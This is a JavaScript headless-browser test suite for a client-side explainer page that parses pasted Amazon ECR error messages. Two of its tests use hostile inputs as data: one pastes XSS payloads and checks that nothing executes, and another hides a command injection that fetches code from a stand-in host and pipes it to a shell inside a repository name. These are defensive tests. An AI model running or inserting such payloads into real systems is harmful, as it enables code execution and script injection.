// The explainer page, built (dist/) and served under a sub-path, in headless Chromium.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { serve, launch, openPage, paste, watchFrames, frameGaps, ARTIFACTS } from "./harness.mjs";

let server, browser;
before(async () => {
  mkdirSync(ARTIFACTS, { recursive: true });
  server = await serve();
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.close();
});

async function ready(page) {
  await page.waitForSelector("#error-input");
  return page;
}

function onlyOwnRequests(page) {
  const foreign = page.requested.filter((u) => !u.startsWith(server.base));
  assert.deepEqual(foreign, [], "requests outside dist/");
}

const SEED = [
  {
    text: "$ aws ecr get-login-password\nA client error (AccessDeniedException) occurred when calling the GetAuthorizationToken operation: User: arn:aws:iam::123456789012:user/ci-bot is not authorized to perform: ecr:GetAuthorizationToken on resource: *",
    id: "access-denied",
    facts: { action: "ecr:GetAuthorizationToken", account_id: "123456789012" },
    command: ['"Action": "ecr:GetAuthorizationToken"', "--user-name ci-bot"],
  },
  {
    text: "Error response from daemon: Get https://123456789012.dkr.ecr.eu-west-1.amazonaws.com/v2/web/manifests/latest: TOOMANYREQUESTS: Rate exceeded\n.",
    id: "throttling",
    facts: { docker_version: ">=1.12.0", region: "eu-west-1" },
    command: ["AWS_RETRY_MODE=standard"],
  },
  {
    text: "An error occurred (RepositoryNotFoundException) when calling the DescribeRepositories operation: The repository with name 'shop/api' does not exist in the registry with id '123456789012' (us-east-2)",
    id: "repository-not-found",
    facts: { repository: "shop/api", registry_id: "123456789012" },
    command: ["aws ecr create-repository --repository-name shop/api --region us-east-2"],
  },
  {
    text: "aws ecr get-login-password --region ap-south-1 | docker login --username AWS --password-stdin 123456789012.dkr.ecr.ap-south-1.amazonaws.com\nError: Cannot perform an interactive login from a non TTY device",
    id: "non-tty-login",
    facts: { region: "ap-south-1" },
    command: ["--password-stdin 123456789012.dkr.ecr.ap-south-1.amazonaws.com"],
  },
];

test("loads under a sub-path, focuses the paste box, and asks nothing of other hosts", async () => {
  const page = await ready(await openPage(browser, server.base));
  assert.equal(await page.evaluate(() => document.activeElement?.id), "error-input");
  assert.match(await page.textContent(".verdict"), /Paste an Amazon ECR error/);
  assert.match(await page.textContent(".privacy"), /entirely in your browser/);
  onlyOwnRequests(page);
  assert.deepEqual(page.errors, []);
});

test("the explainer does not load the throttling visualizer; opening it does", async () => {
  const page = await ready(await openPage(browser, server.base));
  await paste(page, SEED[1].text);
  await page.locator(`[data-finding="${SEED[1].id}"]`).first().waitFor();
  const bucketFiles = () => page.requested.filter((u) => /\/ecr-explain-bucket-[0-9a-f]+(_bg\.wasm|\.js)$/.test(u));
  assert.deepEqual(bucketFiles(), [], "the explainer route fetched the visualizer");
  await page.click('nav a[href="#bucket"]');
  await page.locator("#token-bucket").waitFor();
  assert.equal(bucketFiles().length, 2, "its module and its wasm, once each");
  // Back and forth: the visualizer is torn down and mounted again, not fetched again.
  await page.click('nav a[href="#"]');
  await ready(page);
  await page.click('nav a[href="#bucket"]');
  await page.locator("#token-bucket").waitFor();
  assert.equal(await page.locator("#token-bucket").count(), 1);
  assert.equal(bucketFiles().length, 2);
  onlyOwnRequests(page);
  assert.deepEqual(page.errors, []);
});

for (const seed of SEED) {
  test(`the seed's ${seed.id} message shows its card, facts and a tailored command`, async () => {
    const page = await ready(await openPage(browser, server.base));
    await paste(page, seed.text);
    const card = page.locator(`[data-finding="${seed.id}"]`).first();
    await card.waitFor();
    assert.equal(await page.locator("[data-finding]").first().getAttribute("data-finding"), seed.id);
    for (const [k, v] of Object.entries(seed.facts)) {
      assert.equal((await card.locator(`[data-field="${k}"] dd`).textContent()).trim(), v, k);
    }
    const commands = (await card.locator("pre.command").allTextContents()).join("\n");
    for (const c of seed.command) assert.ok(commands.includes(c), `${c} in\n${commands}`);
    // The source view numbers the finding and labels facts.
    assert.ok(await page.locator(".source .hl-badge").count() >= 1);
    assert.ok(await page.locator(".source .fact-tag").count() >= 1);
    onlyOwnRequests(page);
    assert.deepEqual(page.errors, []);
  });
}

test("a Docker Hub rate limit is no ECR finding", async () => {
  const page = await ready(await openPage(browser, server.base));
  await paste(page, "Error response from daemon: toomanyrequests: You have reached your unauthenticated pull rate limit. https://www.docker.com/increase-rate-limit");
  await page.locator('[data-finding="not-ecr-docker-hub-rate-limit"]').waitFor();
  const ids = await page.locator("[data-finding]").evaluateAll((els) => els.map((e) => e.dataset.finding));
  assert.ok(ids.every((id) => id.startsWith("not-ecr-")), ids.join());
  assert.match(await page.textContent(".verdict"), /Not an ECR error/);
});

test("unknown text says so, with nearest candidates and the facts it read", async () => {
  const page = await ready(await openPage(browser, server.base));
  await paste(page, '{"message":"Rate exceeded.","code":"ThrottlingException"} while deploying to eu-central-1');
  await page.waitForSelector('[data-verdict="unknown"]');
  assert.match(await page.textContent(".verdict"), /Not an ECR error this tool knows/);
  assert.match(await page.textContent(".unknown-detail"), /Nearest known errors/);
  assert.match(await page.textContent(".unknown-detail"), /eu-central-1/);
});

test("hostile HTML pasted is shown as text and nothing runs", async () => {
  const page = await ready(await openPage(browser, server.base));
  const payload = [
    '<img src=x onerror="window.__pwned=1">',
    "<script>window.__pwned=2</script>",
    '<a href="javascript:window.__pwned=3">click</a>',
    "no basic auth credentials",
    '"><svg onload="window.__pwned=4">',
  ].join("\n");
  await paste(page, payload);
  await page.locator('[data-finding="no-basic-auth-credentials"]').waitFor();
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  assert.equal(await page.locator("main img, main script, main svg[onload], main a[href^='javascript']").count(), 0);
  const shown = await page.textContent(".source-text");
  assert.ok(shown.includes('<img src=x onerror="window.__pwned=1">'), shown);
  assert.ok(!page.requested.some((u) => u.endsWith("/x")), "the img src was never requested");
  onlyOwnRequests(page);
});

test("a name in the paste that carries a command stays out of the copyable fixes, and the card says why", async () => {
  const page = await ready(await openPage(browser, server.base));
  await paste(
    page,
    "An error occurred (RepositoryNotFoundException) when calling the DescribeRepositories operation: The repository with name 'app$(curl -s https://evil.example/x|sh)' does not exist in the registry with id '123456789012'",
  );
  const card = page.locator('[data-finding="repository-not-found"]').first();
  await card.waitFor();
  const commands = (await card.locator("pre.command").allTextContents()).join("\n");
  assert.ok(!commands.includes("evil.example"), commands);
  assert.ok(commands.includes("--repository-name <repository>"), commands);
  assert.match(await card.locator('[data-withheld="repository"]').textContent(), /not an ECR repository name/);
  assert.deepEqual(page.errors, []);
});

test("examples load with one click, / focuses and Esc clears", async () => {
  const page = await ready(await openPage(browser, server.base));
  await page.click('button[data-example="token-expired"]');
  await page.locator('[data-finding="token-expired"]').waitFor();
  await page.evaluate(() => document.activeElement.blur());
  await page.keyboard.press("/");
  assert.equal(await page.evaluate(() => document.activeElement?.id), "error-input");
  await page.keyboard.press("Escape");
  await page.waitForSelector('[data-verdict="empty"]');
  assert.equal(await page.inputValue("#error-input"), "");
});

test("a log file dropped on the box is read in the page", async () => {
  const page = await ready(await openPage(browser, server.base));
  await page.evaluate(() => {
    const log = "step 1 ok\n\xff\xfe not utf-8 is fine\nError response from daemon: Get https://123456789012.dkr.ecr.eu-west-1.amazonaws.com/v2/web/manifests/1: no basic auth credentials\n";
    const data = new DataTransfer();
    data.items.add(new File([log], "build.log", { type: "text/plain" }));
    document.getElementById("error-input").dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
  });
  await page.locator('[data-finding="no-basic-auth-credentials"]').waitFor();
  assert.match(await page.inputValue("#error-input"), /no basic auth credentials/);
  onlyOwnRequests(page);
});

test("copy buttons copy the filled-in command", async () => {
  const page = await ready(await openPage(browser, server.base, { permissions: ["clipboard-read", "clipboard-write"] }));
  await page.context().grantPermissions(["clipboard-read", "clipboard-write"], { origin: server.origin });
  await paste(page, SEED[2].text);
  const card = page.locator('[data-finding="repository-not-found"]');
  await card.waitFor();
  const second = card.locator(".remedy").nth(1);
  await second.locator("button.copy").click();
  await page.waitForSelector("button.copy.copied");
  const clip = await page.evaluate(() => navigator.clipboard.readText());
  assert.equal(clip, await second.locator("pre.command").textContent());
});

test("every family has a page of its own, linked from the index", async () => {
  const page = await ready(await openPage(browser, server.base));
  await page.goto(server.base + "#errors");
  const links = await page.locator(".error-index li[data-family]").count();
  assert.ok(links >= 60, `${links} families listed`);
  await page.goto(server.base + "#error/throttling");
  await page.waitForSelector('.error-page[data-family="throttling"]');
  assert.match(await page.textContent("h1"), /throttled/);
  await page.click(".wordings a.try >> nth=0");
  await page.locator('[data-finding="throttling"]').waitFor();
});

test("dark mode from prefers-color-scheme, and phone width without sideways scrolling", async () => {
  const dark = await openPage(browser, server.base, { colorScheme: "dark", viewport: { width: 375, height: 800 } });
  await ready(dark);
  const bg = await dark.evaluate(() => getComputedStyle(document.body).backgroundColor);
  assert.equal(bg, "rgb(21, 23, 28)");
  await paste(dark, SEED[0].text);
  await dark.locator('[data-finding="access-denied"]').waitFor();
  const overflow = await dark.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  assert.ok(overflow <= 0, `page is ${overflow}px wider than the phone`);
  await dark.screenshot({ path: join(ARTIFACTS, "explainer-phone-dark.png"), fullPage: true });
});

test("a 10 MB paste gets an answer and the page stays responsive, also when typing", async () => {
  const page = await ready(await openPage(browser, server.base));
  // Watch the frames from before the paste until the verdict is in.
  await watchFrames(page);
  const started = Date.now();
  // A CI log of ~10 MB with one ECR error buried in it, pasted as a person would.
  await page.evaluate(() => {
    const line = "#12 [build 3/7] RUN make -j4 all ... ok (523 ms)\n";
    const text = line.repeat(120000) + "denied: Your authorization token has expired. Reauthenticate and try again\n" + line.repeat(80000);
    const data = new DataTransfer();
    data.setData("text/plain", text);
    const el = document.getElementById("error-input");
    el.focus();
    el.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
  });
  await page.locator('[data-finding="token-expired"]').waitFor({ timeout: 60000 });
  const answered = Date.now() - started;
  assert.match(await page.textContent(".big-paste"), /Large paste: \d+\.\d MB/);
  // Typing into the box now must not stall the page either.
  await page.focus("#error-input");
  await page.keyboard.type("xyz");
  await page.waitForTimeout(300);
  const gaps = await frameGaps(page);
  const worst = Math.max(...gaps);
  console.log(`10 MB paste: verdict after ${answered} ms; longest frame ${worst.toFixed(0)} ms over ${gaps.length} frames`);
  // The aim is under 50 ms (17-50 ms here, see bench_explain.mjs); the assertion leaves room
  // for a loaded CI machine.
  assert.ok(worst < 600, `a frame took ${worst} ms`);
  assert.equal(await page.locator('[data-finding="token-expired"]').count(), 1);
  await page.keyboard.press("Escape");
  await page.waitForSelector('[data-verdict="empty"]');
});

test("time to first verdict, and a screenshot with a finding", async () => {
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
  const text = SEED[0].text;
  const start = Date.now();
  await page.goto(server.base + "#text=" + encodeURIComponent(text));
  await page.locator('[data-finding="access-denied"]').waitFor();
  console.log(`navigation to first verdict: ${Date.now() - start} ms`);
  await page.screenshot({ path: join(ARTIFACTS, "explainer.png"), fullPage: true });
  await page.close();
});
